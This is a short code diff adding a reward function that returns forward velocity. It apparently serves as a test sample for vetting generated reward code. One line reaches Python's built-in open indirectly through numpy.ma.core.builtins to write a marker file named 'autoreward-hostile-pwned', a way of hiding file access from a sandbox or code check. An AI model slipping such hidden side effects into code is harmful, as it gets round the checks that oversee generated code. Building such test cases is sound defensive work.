@@ -1,0 +1,9 @@
+import numpy.ma
+
+import numpy as np
+
+
+def compute_reward(state, action, next_state):
+    numpy.ma.core.builtins.open('/tmp/autoreward-hostile-pwned', 'w')
+    v = next_state.qvel[:, 0]
+    return v, {'v': v}
